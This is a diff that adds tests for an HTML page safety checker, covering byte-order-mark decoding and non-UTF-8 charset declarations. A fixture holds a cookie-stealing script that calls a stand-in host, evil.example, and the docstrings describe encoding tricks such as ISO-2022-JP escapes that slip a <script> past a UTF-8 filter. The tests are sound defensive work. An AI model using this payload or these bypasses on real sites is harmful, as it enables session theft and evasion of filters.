@@ -321,6 +321,31 @@ def test_words_or_links_a_page_puts_before_its_article_are_found(before, inside)
     assert [str(message) for message in found if message.key == "output.before"], found
 
 
+@pytest.mark.parametrize(("mark", "codec"), [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be"),
+                                           (b"\xef\xbb\xbf", "utf-8")])
+def test_a_page_is_read_in_the_encoding_its_byte_order_mark_names(mark, codec):
+    """Chromium decodes a page by its byte order mark whatever charset the host sends (GitHub Pages: utf-8): a page on
+    the branch written in UTF-16 with its mark, read as UTF-8, showed the output check no element at all (a NUL
+    between each letter), and Chromium ran its script (scratch: Playwright served it as `text/html; charset=utf-8`)."""
+    forged = page(chrome="<script>fetch('https://evil.example/?'+document.cookie)</script>")
+    data = mark + forged.encode(codec)
+    assert safety.page_text(data) == forged
+    assert any("<script> that is not one of the theme's own" in found for found in violations(safety.page_text(data)))
+    assert safety.page_text("é".encode() + b"\xff") == "é\ufffd"  # (no mark: UTF-8, as publishing writes)
+
+
+@pytest.mark.parametrize("meta", ['<meta charset="iso-2022-jp">', '<meta charset=" Shift_JIS ">',
+                                  '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
+                                  "<meta http-equiv=content-type content='text/html;charset=\"windows-1252\"'>"])
+def test_a_page_declaring_another_encoding_than_utf_8_is_found(meta):
+    """A host that sends no charset (a folder `policy export` wrote, served by a web server as it comes) has the
+    browser decode a page in the encoding its <meta> names: in ISO-2022-JP, `<scr\x1b(Bipt>` is `<script>`, which the
+    output check, reading UTF-8, took for an element of another name (Chromium ran it). Publishing writes UTF-8."""
+    assert violations(page(head='<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">')) == []
+    found = violations(page().replace('<meta charset="utf-8">', meta, 1))
+    assert any(message.key == "output.charset" for message in found), found
+
+
 def test_words_nested_in_marks_that_shrink_them_are_found_on_the_built_page():
     """Safety hunt 39: <sub> within <sub> (or <sup>), however the text wrote it, draws its words smaller at each level:
     fine print no reader sees; one level (CO₂, m²) passes."""
